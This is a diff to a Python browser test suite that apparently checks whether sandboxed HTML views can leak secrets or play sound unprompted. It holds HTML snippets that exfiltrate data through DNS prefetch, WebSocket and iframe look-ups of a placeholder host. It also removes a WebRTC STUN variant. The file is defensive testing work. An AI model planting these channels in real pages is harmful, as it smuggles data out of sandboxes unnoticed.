@@ -12,8 +12,9 @@ from e2e.conftest import chromium_path
 from e2e.exfiltration import hostile
 from e2e.exfiltration.host import BARE, page, unprotected_host
 from e2e.exfiltration.listeners import CONNECTED, Listeners
-from e2e.exfiltration.plain import PlainChromium, Tab, plain_chromium
+from e2e.exfiltration.plain import Tab, plain_chromium
 from e2e.exfiltration.ways import BY_NAME
+from e2e.exfiltration.ways.way import Way
 
 AHEAD = ["link-preconnect", "link-dns-prefetch", "speculation-prefetch", "speculation-prerender"]
 # What carries a secret away is the look-up of a name that was made for it. Each of these is looked
@@ -27,8 +28,6 @@ BY_NAME_ALONE = {
     "control": '<meta http-equiv="x-dns-prefetch-control" content="on">'
     '<link rel="dns-prefetch" href="http://$NAME">',
     "socket": "<script>new WebSocket('ws://$NAME/')</script>",
-    "stun": "<script>const p = new RTCPeerConnection({iceServers: [{urls: 'stun:$NAME'}]});"
-    "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));</script>",
     "frame": '<iframe src="http://$NAME/"></iframe>',
     "srcdoc": "<iframe srcdoc=\"<link rel='dns-prefetch' href='//$NAME'>\"></iframe>",
 }
@@ -39,6 +38,20 @@ STATES = f"[...{SLOTS}].map(s => s.querySelector('[data-panel]')?.dataset.panelS
 NOTICES = (
     f"[...{SLOTS}].map(s => s.querySelector('[data-note=alive], [data-note=startup]')?.textContent)"
 )
+
+
+# A sixteenth of a second of nothing: what counts is whether the browser lets it be played.
+SOUND = """const rate = 8000, data = new Uint8Array(44 + 500).fill(128);
+const see = new DataView(data.buffer);
+const text = (at, said) => [...said].forEach((c, i) => see.setUint8(at + i, c.charCodeAt(0)));
+text(0, "RIFF"); see.setUint32(4, 536, true); text(8, "WAVEfmt "); see.setUint32(16, 16, true);
+see.setUint16(20, 1, true); see.setUint16(22, 1, true); see.setUint32(24, rate, true);
+see.setUint32(28, rate, true); see.setUint16(32, 1, true); see.setUint16(34, 8, true);
+text(36, "data"); see.setUint32(40, 500, true);
+const sound = new Audio(URL.createObjectURL(new Blob([data], {type: "audio/wav"})));
+const said = await sound.play().then(() => "it plays", (error) => "refused: " + error.name);
+parent.postMessage({jsonrpc: "2.0", method: "notifications/message",
+  params: {level: "info", data: said}}, "*");"""
 
 
 def secret_name(way: str, where: str) -> str:
@@ -133,3 +146,20 @@ def test_a_view_whose_process_ends_is_reported_and_can_be_reloaded(
             tab.until("window.own === undefined && document.readyState === 'complete'")
             tab.until(f"{SLOTS}.length === {len(views)}")
         assert listeners.heard() == {}
+
+
+def test_a_view_makes_no_sound_before_it_was_pressed(tmp_path: Path, browser_folder: Path) -> None:
+    """Playwright's own looks into a view count as a press; here nobody presses anything."""
+    view = hostile.View("sound", Way("sound", script=SOUND).document(9))
+    with (
+        hostile.theatre(tmp_path / "vitrine", [[view]]) as theatre,
+        plain_chromium(chromium_path(), browser_folder) as browser,
+    ):
+        tab = browser.tab()
+        tab.go(theatre.running.link)
+        unfold(tab, theatre.sessions[0])
+        tab.until("document.querySelector('.panel-log summary')")
+        tab.evaluate("document.querySelector('.panel-log').open = true")
+        tab.until("document.querySelector('.panel-log li')")
+        said = tab.evaluate("document.querySelector('.panel-log').innerText")
+        assert "refused: NotAllowedError" in said
